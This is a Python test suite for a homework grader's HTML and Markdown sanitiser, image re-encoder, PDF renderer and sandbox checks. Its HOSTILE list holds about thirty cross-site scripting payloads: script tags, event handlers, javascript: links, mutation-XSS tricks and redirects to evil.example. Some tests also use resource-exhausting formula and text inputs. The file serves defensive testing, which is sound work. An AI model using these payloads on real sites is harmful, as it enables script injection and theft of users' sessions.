"""What strangers wrote becomes harmless HTML, and whatever they hide in it stays behind walls."""

from __future__ import annotations

import io
import re
import warnings
from html.parser import HTMLParser
from typing import Any

import pypdfium2
import pytest
from PIL import Image
from reviewed import picture

from grader.review.answers import Answer, Document, Figure, Markdown, Plain, State
from grader.review.drawing import MOST_PIXELS, Unreadable
from grader.review.drawn import drawn, walls
from grader.review.markdown import ATTRIBUTES, CLASSES, DEEPEST_FORMULA, TAGS, deepest, html_of, sanitised
from grader.review.showing import shown, typed
from grader.sandbox.shut_in import WALLS

PLACE = "/answer/x/figure/"
PICTURES = {"why.png": 0, "sub/a b.png": 1}


def html(source: str, **more: Any) -> str:
    """As in the process of its own."""
    return html_of(source, "", PICTURES, PLACE, **more)


class Elements(HTMLParser):
    """All elements with their attributes, as a browser would find them."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='/api/start'>",
    "<img src='/answer/other/figure/0' srcset='http://evil.example/x.png'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='http://evil.example'></iframe><object data=x></object><embed src=x>",
    "<a href='javascript:alert(1)' onclick=alert(1) target=_top>x</a>",
    "[x](javascript:alert(1)) [y](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>",
    "[x](http://evil.example 'onmouseover=alert(1)')",
    "![x](http://evil.example/x.png) ![y](//evil.example/y.png) ![z](file:///etc/passwd)",
    "![x](why.png 'a\" onerror=\"alert(1)')",
    '![x" onerror="alert(1)](why.png)',
    "<form action='http://evil.example'><input name=x autofocus onfocus=alert(1)><button>send</button></form>",
    "<style>@import 'http://evil.example/x.css'; body { background: url(http://evil.example) }</style>",
    "<p style='background: url(http://evil.example)' id=saving class=main name=x>x</p>",
    "<base href='http://evil.example'><meta http-equiv=refresh content='0;url=//evil.example'><link rel=stylesheet>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=x onerror=alert(1)></video><audio autoplay src=http://evil.example></audio>",
    "$\\href{javascript:alert(1)}{x}$ $\\text{<script>alert(1)</script>}$ $\\unicode{x3c}img$",
    "$$<img src=x onerror=alert(1)>$$",
    "`<script>alert(1)</script>`\n\n    <script>alert(1)</script>\n\n```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<!-- <script>alert(1)</script> --> <!--> <script>alert(1)</script> -->",
    "</div></article></main><script>alert(1)</script><h1>page</h1>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template><slot name=x></slot><custom-element></custom-element>",
]


@pytest.mark.parametrize("source", HOSTILE)
def test_only_harmless_elements_are_left(source: str) -> None:
    for tag, attributes in Elements(html(source)).found:
        assert tag in TAGS, source
        allowed = ATTRIBUTES.get(tag, set()) | ({"class"} if tag in CLASSES else set())
        assert set(attributes) <= allowed, source
        assert not any("script:" in (value or "") for name, value in attributes.items() if name != "alt")
        if tag == "img" and "src" in attributes:
            assert re.fullmatch(r"/answer/x/figure/[01]", attributes["src"] or "")
        assert set((attributes.get("class") or "").split()) <= CLASSES.get(tag, set())


@pytest.mark.parametrize("source", HOSTILE)
def test_what_a_reader_lets_through_the_sanitiser_stops(source: str) -> None:
    for tag, attributes in Elements(sanitised(source, PLACE)).found:
        assert tag in TAGS
        assert not [name for name in attributes if name.startswith("on") or name in ("style", "id", "href", "srcset")]


def test_pictures_are_those_of_the_submission_and_others_are_said() -> None:
    assert '<img src="/answer/x/figure/0" alt="the reason">' in html("![the reason](why.png)")
    assert '<img src="/answer/x/figure/1"' in html("<img width=300 src='sub/a%20b.png'>")
    said = html("![away](http://evil.example/x.png) ![gone](gone.png)")
    assert "figure http://evil.example/x.png “away”: not shown: it is not in the submission" in said
    assert "figure gone.png “gone”: it was not handed in" in said


def test_links_show_where_they_lead_and_lead_nowhere() -> None:
    assert html("[here](http://example.org/x)") == '<p>here <span class="address">(http://example.org/x)</span></p>\n'


def test_markdown_and_formulas_are_laid_out() -> None:
    laid_out = html("# T\n\n| a |\n|---|\n| 1 |\n\n$x^2$ and\n\n$$\\frac{a}{b}$$\n\nH<sub>2</sub>O ~~x~~")
    for part in (
        "<h4>T</h4>",
        "<td>1</td>",
        "<msup><mi>x</mi><mn>2</mn></msup>",
        "<mfrac>",
        "<sub>2</sub>",
        "<s>x</s>",
    ):
        assert part in laid_out


@pytest.mark.parametrize(
    "formula",
    [
        "{" * 5_000 + "}" * 5_000,
        "x" * 5_000,
        r"\def\x{\x\x}\x",
        r"\newcommand{\a}{\a\a}\a",
        r"\sqrt" * 590 + "x",
        "x" + "^x" * 1_000,
        r"\nonsense{x}",
        r"\left(" * 100 + r"\right)" * 100,
    ],
)
def test_formulas_that_would_burst_are_shown_as_typed_or_drawn_small(formula: str) -> None:
    assert (
        len(drawn("markdown", source=f"before ${formula}$ after", folder="", pictures={}, prefix="/")["html"]) < 200_000
    )


def test_the_depth_of_a_formula_is_found_before_it_is_read() -> None:
    assert deepest(r"\frac{a}{b^{c}}") <= 3
    assert deepest("{" * 50 + "}" * 50) > DEEPEST_FORMULA
    assert deepest(r"\left(" * 50) > DEEPEST_FORMULA


@pytest.mark.parametrize(
    "source", ["[" * 20_000, "> " * 20_000 + "x", "*a " * 20_000, "<b>" * 20_000, "$" * 20_001, "`" * 30_000 + "x"]
)
def test_texts_made_to_take_for_ever_end(source: str) -> None:
    part = Markdown(source, "written.md", own=source)
    assert 0 < len(shown(Answer(State.WRITTEN, (part,)), "/answer/x", drawn)) < 1_000_000


def test_what_cannot_be_laid_out_is_shown_as_typed() -> None:
    asked = []

    def breaks(task: str, **question: Any) -> dict[str, Any]:
        asked.append(question.get("formulas", True))
        if question.get("formulas", True) or "worse" in question["source"]:
            raise Unreadable("it died")
        return {"html": "<p>without formulas</p>"}

    one, other = (Answer(State.WRITTEN, (Markdown(s, "w.md", own=s),)) for s in ("<b> $x$", "<b> $x$ worse"))
    assert "A formula could not be read" in shown(one, "/a", breaks)
    assert "<pre>&lt;b&gt; $x$ worse</pre>" in shown(other, "/a", breaks)
    assert asked == [True, False, True, False]


def test_names_and_plain_text_are_letters() -> None:
    name = "<img src=x onerror=alert(1)>'\".png"
    parts = (Plain("<script>1</script>", name), Figure(0, name), Document(0, name), Markdown("<b>", name, own="<b>"))
    answer = Answer(State.WRITTEN, parts, beside=(Figure(1, name),))
    found = Elements(shown(answer, "/answer/x", drawn)).found + Elements(typed(answer)).found
    assert {tag for tag, _ in found} <= {
        "p",
        "pre",
        "figure",
        "img",
        "figcaption",
        "section",
        "details",
        "summary",
        "div",
        "b",
    }
    assert not any(attribute.startswith("on") for _, attributes in found for attribute in attributes)


# ---- in a process of its own


def a_file(image: Image.Image, kind: str) -> bytes:
    file = io.BytesIO()
    image.save(file, kind)
    return file.getvalue()


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "GIF", "WEBP", "BMP"])
def test_pictures_are_written_anew_as_png(kind: str) -> None:
    found = drawn("picture", data=a_file(Image.new("RGB", (300, 200), "red"), kind))
    assert (found["width"], found["height"]) == (300, 200)
    assert found["png"].startswith(b"\x89PNG")


def test_large_pictures_are_made_smaller_and_huge_ones_refused() -> None:
    assert drawn("picture", data=picture(6_000, 6_000))["width"] == 1_600
    huge = picture(50_000, 50_000)
    assert len(huge) < 1_000_000
    assert MOST_PIXELS < 50_000**2
    with pytest.raises(Unreadable, match=r"50,000 × 50,000 pixels"):
        drawn("picture", data=huge)


@pytest.mark.parametrize(
    "data", [b"", b"<svg onload='alert(1)'/>", b"\x89PNG\r\n\x1a\n" + b"x" * 99, b"%PDF-1.4", b"GIF89a" + b"\xff" * 50]
)
def test_what_is_no_picture_is_refused(data: bytes) -> None:
    with pytest.raises(Unreadable):
        drawn("picture", data=data)


def test_a_pdf_is_pictures_and_text() -> None:
    document, file = pypdfium2.PdfDocument.new(), io.BytesIO()
    document.new_page(300, 400)
    document.new_page(300, 400)
    document.save(file)
    assert drawn("pdf", data=file.getvalue())["pages"] == 2
    assert drawn("page", data=file.getvalue(), page=1)["width"] == 1_100
    for data in (b"%PDF-1.4\nnonsense", b""):
        with pytest.raises(Unreadable, match="no PDF"):
            drawn("pdf", data=data)
    with pytest.raises(Unreadable):
        drawn("page", data=file.getvalue(), page=7)


def test_a_pdf_with_pages_of_a_mile_is_drawn_small() -> None:
    document, file = pypdfium2.PdfDocument.new(), io.BytesIO()
    document.new_page(10, 90_000)
    document.save(file)
    assert drawn("page", data=file.getvalue(), page=0)["height"] <= 6_001


def test_the_process_is_shut_in_as_far_as_this_system_can() -> None:
    from grader.sandbox.confine.layers import survey

    there = set(survey("container").active) & {"landlock", "seccomp", "privileges", "rlimits"}
    assert there <= set(drawn("markdown", source="x", folder="", pictures={}, prefix="/")["walls"])


def test_no_file_of_a_homework_warns_where_it_is_laid_out() -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert html("x")


def test_walls_that_this_machine_lacks_are_said_in_a_line() -> None:
    def told(standing: list[str]) -> str:
        return walls(lambda task, **question: {"html": "", "walls": standing})

    def dead(task: str, **question: Any) -> dict[str, Any]:
        raise Unreadable("it is dead")

    assert told(list(WALLS)) == ""
    assert told(["rlimits", "privileges"]).endswith(
        "Missing: landlock (no files), seccomp (no network and no other programs)."
    )
    assert walls(dead).endswith("does not work on this machine: it is dead.")
    assert "Missing: rlimits" not in walls(drawn)
